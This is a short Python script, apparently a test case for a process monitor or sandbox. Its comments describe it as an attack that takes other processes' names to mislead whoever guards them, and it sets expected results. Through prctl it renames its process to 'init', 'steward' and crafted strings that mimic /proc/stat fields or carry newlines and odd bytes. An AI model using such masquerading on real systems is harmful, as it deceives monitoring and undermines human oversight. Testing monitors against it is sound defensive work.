# attack: take the names of other processes, to mislead whoever guards them
# must end: completed
# state: preserved
# then: survivor == 53
import ctypes
survivor = 53
libc = ctypes.CDLL(None)
for name in (b"init", b"woma", b"a) R 1 1 1 (", b"\n\n\xff", b"steward\0"):
    libc.prctl(15, name, 0, 0, 0)
print("held")
